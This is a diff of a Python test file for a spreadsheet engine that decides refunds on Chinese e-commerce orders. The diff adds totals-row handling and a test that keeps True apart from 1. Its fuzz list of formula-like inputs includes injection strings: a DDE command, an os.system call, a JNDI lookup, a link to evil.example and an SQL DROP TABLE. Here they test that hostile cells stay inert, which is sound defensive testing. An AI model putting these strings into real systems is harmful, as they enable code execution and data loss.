@@ -33,7 +33,7 @@ PROFILE = settings(max_examples=50, deadline=None,
 FORMULA_LIKE = [
     "=1+1", "=HYPERLINK(\"http://evil.example\",\"点我\")", "+SUM(A1:A9)", "-2+3", "@cmd",
     "=cmd|' /C calc'!A0", "\t=1", "__import__('os').system('touch /tmp/pwned')",
-    "{订单号}", "{0.__class__}", "%s%s%s", "${jndi:ldap://x}", "'; DROP TABLE t;--",
+    "{订单号}", "{0.__class__}", "合计", "总计：", "%s%s%s", "${jndi:ldap://x}", "'; DROP TABLE t;--",
 ]
 IMPOSSIBLE_DATES = [
     "2025-02-30", "2025/13/01", "2025年2月30日", "2025年6月31日 25:61", "0000-00-00",
@@ -92,6 +92,11 @@ def cell(key: str):
 row_strategy = st.tuples(*[cell(f.key) for f in FIELDS]).map(list)
 junk_row = st.lists(junk_value, min_size=0, max_size=len(HEADERS) + 3)
 table_strategy = st.lists(row_strategy, min_size=1, max_size=6)
+
+
+def _totals(row) -> bool:
+    """A 合计/总计 row: skipped like a blank row (see tests/data/messy/README.md)."""
+    return isinstance(row, list) and any(engine._is_totals_word(c) for c in row)
 
 
 def short_reason(value) -> bool:
@@ -190,6 +195,18 @@ def test_evaluate_one_row_alone_equals_in_a_table(row):
     assert padded[1].as_output() == alone
 
 
+def test_memo_never_confuses_true_with_one():
+    # True == 1 and hash(True) == hash(1): a per-value memo must still keep them apart.
+    headers = ["订单号", "售后类型", "退款金额", "发货状态"]
+    rows = [[True, "仅退款", 10, "未发货"], [1, "仅退款", 10, "未发货"], [0, "仅退款", False, "未发货"],
+            ["7", "仅退款", 0, "未发货"]]
+    out = [r.as_output() for r in engine.evaluate(rows, headers, None, NOW)]
+    assert out[0]["action"] == "#信息不足: 订单号"
+    assert out[1]["action_code"] == "APPROVE_REFUND"
+    assert out[2]["action"] == "#信息不足: 退款金额"
+    assert out[3]["action_code"] == "APPROVE_REFUND"
+
+
 def test_many_missing_fields_still_give_a_short_message():
     rows = [["x" * 3] + ["?" * 5] * (len(HEADERS) - 1)]
     rows[0][0] = True
@@ -240,7 +257,7 @@ def _check_cell(name: str, mode: str, value, row) -> None:
         # blank rows give ""; so do replies for actions that need no customer
         # message, and hours left when no deadline is known
         assert value == "", (name, mode, value, row)
-        assert engine._is_blank(row) or name in ("REPLY_SCRIPT", "HOURS_LEFT"), (name, mode, row)
+        assert engine._is_blank(row) or name in ("REPLY_SCRIPT", "HOURS_LEFT") or _totals(row), (name, mode, row)
         return
     if name == "HOURS_LEFT":
         assert isinstance(value, float) and value == value
